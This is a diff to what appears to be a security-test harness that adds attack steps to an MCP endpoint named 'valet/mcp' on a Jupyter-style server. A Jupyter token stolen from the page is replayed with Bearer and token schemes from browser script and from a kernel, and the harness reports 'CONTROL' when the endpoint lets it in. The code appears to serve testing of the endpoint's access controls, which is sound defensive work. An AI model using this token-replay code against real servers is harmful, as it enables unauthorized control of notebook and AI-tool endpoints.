@@ -70,6 +70,41 @@ return said;
 """
 
 
+_ENDPOINT = """
+const INITIALIZE = {jsonrpc: '2.0', id: 1, method: 'initialize', params: {
+    protocolVersion: '2025-11-25', capabilities: {}, clientInfo: {name: 'red', version: '1'}}};
+let said = '';
+for (const scheme of ['Bearer', 'token']) {
+    const more = {'Authorization': scheme + ' ' + TOKEN, 'Content-Type': 'application/json',
+        'Accept': 'application/json, text/event-stream'};
+    for (const [method, body] of [['POST', INITIALIZE], ['GET'], ['DELETE']])
+        for (const path of ['valet/mcp', ...(method === 'POST' ? ['valet/oauth/register'] : [])]) {
+            const answer = await ask(method, path, body, more).catch(() => ({status: 0}));
+            said += method + ' ' + path + ' ' + answer.status + ' ';
+            // Not "no session": who gets that far has been let in.
+            if (![0, 401, 403, 405].includes(answer.status))
+                return 'CONTROL the endpoint takes a script with the Jupyter token: ' + said;
+        }
+}
+return said;
+"""
+
+_ENDPOINT_FROM_THE_KERNEL = """
+import json, urllib.request
+body = {{"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {{
+    "protocolVersion": "2025-11-25", "capabilities": {{}},
+    "clientInfo": {{"name": "red", "version": "1"}}}}}}
+request = urllib.request.Request({url!r}, json.dumps(body).encode(), {{
+    "Authorization": "Bearer " + {token!r}, "Content-Type": "application/json",
+    "Accept": "application/json, text/event-stream"}})
+try:
+    with urllib.request.urlopen(request, timeout=20) as answer:
+        print("CONTROL the endpoint takes a kernel with the Jupyter token", answer.status)
+except OSError as error:
+    print("valet/mcp", getattr(error, "code", error))
+"""
+
+
 def token(tab: Tab, mark: Path) -> str:
     """R79."""
     stolen = tab.script(_STEAL)
@@ -77,7 +112,7 @@ def token(tab: Tab, mark: Path) -> str:
         return f"the page does not say the token {stolen}"
     use = _WITH % json.dumps(stolen)
     tries = [_outside(tab, mark, use), _sign_ins(tab, use), _at_the_broker(tab, use, stolen),
-             _minted(tab, stolen)]  # fmt: skip
+             _at_the_endpoint(tab, use, stolen), _minted(tab, stolen)]  # fmt: skip
     won = [said for said in tries if said.startswith("CONTROL") or mark.exists()]
     return (won or ["the token is had; with it: " + "; ".join(tries)])[0]
 
@@ -123,6 +158,18 @@ def _at_the_broker(tab: Tab, use: str, stolen: str) -> str:
     if from_page.startswith("CONTROL"):
         return from_page
     from_kernel = tab.world.attacker.run(_FROM_THE_KERNEL.format(token=stolen))
+    return from_kernel if from_kernel.startswith("CONTROL") else f"{from_page}{from_kernel}".strip()
+
+
+def _at_the_endpoint(tab: Tab, use: str, stolen: str) -> str:
+    """Come as a program outside of the notebooks, which may show the Jupyter token."""
+    from_page = tab.script(use + _ENDPOINT)
+    if from_page.startswith("CONTROL"):
+        return from_page
+    server = tab.world.server
+    url = f"http://127.0.0.1:{server.port}{server.base}valet/mcp"
+    code = _ENDPOINT_FROM_THE_KERNEL.format(url=url, token=stolen)
+    from_kernel = tab.world.attacker.run(code)
     return from_kernel if from_kernel.startswith("CONTROL") else f"{from_page}{from_kernel}".strip()
 
 
